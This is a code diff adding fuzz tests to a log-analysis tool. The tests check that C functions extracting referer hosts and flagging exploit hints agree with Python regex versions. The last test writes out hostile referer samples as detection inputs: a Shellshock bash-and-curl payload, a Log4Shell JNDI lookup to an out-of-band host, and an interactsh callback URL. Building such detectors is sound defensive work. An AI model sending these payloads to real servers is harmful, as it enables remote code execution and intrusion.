@@ -612,3 +612,52 @@ def test_storing_learned_lines_refuses_odd_arguments() -> None:
         _cut.learn_store([b"a"], [b"E"], {}, {}, {}, set(), [b"E"], None)
     with pytest.raises(TypeError):  # an unhashable endpoint: the dict's own error
         _cut.learn_store([b"a"], [[1]], {}, {}, {}, set(), frozenset(), None)
+
+
+# -- referers: the host each names (access._referer_host), the exploit prefilter (classify._REFERER_HINT) -----------
+
+_ref_piece = st.sampled_from([b"http", b"HTTPS", b"h", b"a1+.-", b"x" * 15, b"y" * 16, b"://", b":/", b":", b"/", b"//",
+                              b"@", b"user", b"u:p", b"[", b"]", b"[::1]", b"[2001:DB8::1]", b"[fe80::g]", b"[1.2.3.4",
+                              b"Example.COM", b"example.com.", b"..", b".", b"?", b"#", b":8080", b" ", b"\t", b"\x0b",
+                              b"\x0c", b"\r", b"\n", b"\xa0", b"\xff", b"\x00", b"-", b"%", b"{", b"\\", b"OAST.",
+                              b"oast", b"Interact.SH", b"interact.s", b"1", b"\xc9xample"])
+_referer = st.one_of(st.lists(_ref_piece, max_size=10).map(b"".join), st.binary(max_size=30))
+
+
+@settings(max_examples=1000, deadline=None)
+@given(st.lists(_referer, max_size=20))
+@example([b"http://user@:80/", b"http://[x@/", b"http://a@b@c/", b"http://@host", b" HTTP://Host.Example.. ", b"",
+          b"  ", b"-", b"a" * 16 + b"://h", b"a" * 17 + b"://h", b"http://user@[::1]x", b"http://[::1]@/"])
+def test_fuzz_referer_hosts_in_c_equal_the_regex(referers: list[bytes]) -> None:
+    """_cut.referer_hosts reads each referer's host as access._referer_host does with Python's re (the user part,
+    backtracking, brackets, case, blanks, final dots)."""
+    from upkeeper.logs.access import _referer_host
+
+    assert _cut.referer_hosts(referers) == [_referer_host(x) for x in referers]
+
+
+@settings(max_examples=1000, deadline=None)
+@given(st.lists(_referer, max_size=20), st.integers(8170, 8195))
+def test_fuzz_referer_hints_in_c_equal_the_prefilter(referers: list[bytes], pad: int) -> None:
+    """_cut.referer_hints finds classify._REFERER_HINT in each referer's first AGENT_CLASSIFIED_BYTES exactly as the
+    regex does, a hint across that limit included; and the exploits judged with it are referer_exploit's."""
+    from upkeeper.logs.access import _referer_exploits
+    from upkeeper.logs.classify import _REFERER_HINT, AGENT_CLASSIFIED_BYTES, referer_exploit
+
+    long = [b"a" * (pad - len(x) // 2) + x for x in referers]  # (a hint around byte 8192)
+    values = referers + long + [b"x" * pad + b"oast."]
+    assert _cut.referer_hints(values) == [bool(_REFERER_HINT.search(x, 0, AGENT_CLASSIFIED_BYTES)) for x in values]
+    assert _referer_exploits(values) == [referer_exploit(x) for x in values]
+
+
+def test_referer_functions_refuse_what_is_not_a_list_of_bytes() -> None:
+    for f in (_cut.referer_hosts, _cut.referer_hints):
+        for bad in [(b"x",), [b"x", "y"], [None], b"x"]:
+            with pytest.raises(TypeError):
+                f(bad)  # type: ignore[arg-type]
+        assert f([]) == []
+    from upkeeper.logs.access import _referer_exploits
+
+    found = _referer_exploits([b"() { :; }; /bin/bash -c 'curl x'", b"${jndi:ldap://x.oast.fun/a}",
+                               b"http://abc.INTERACT.sh/", b"https://rentals.example/listings/5703"])
+    assert found == ["shellshock_in_referer", "log4shell_in_referer", "interactsh_in_referer", None]
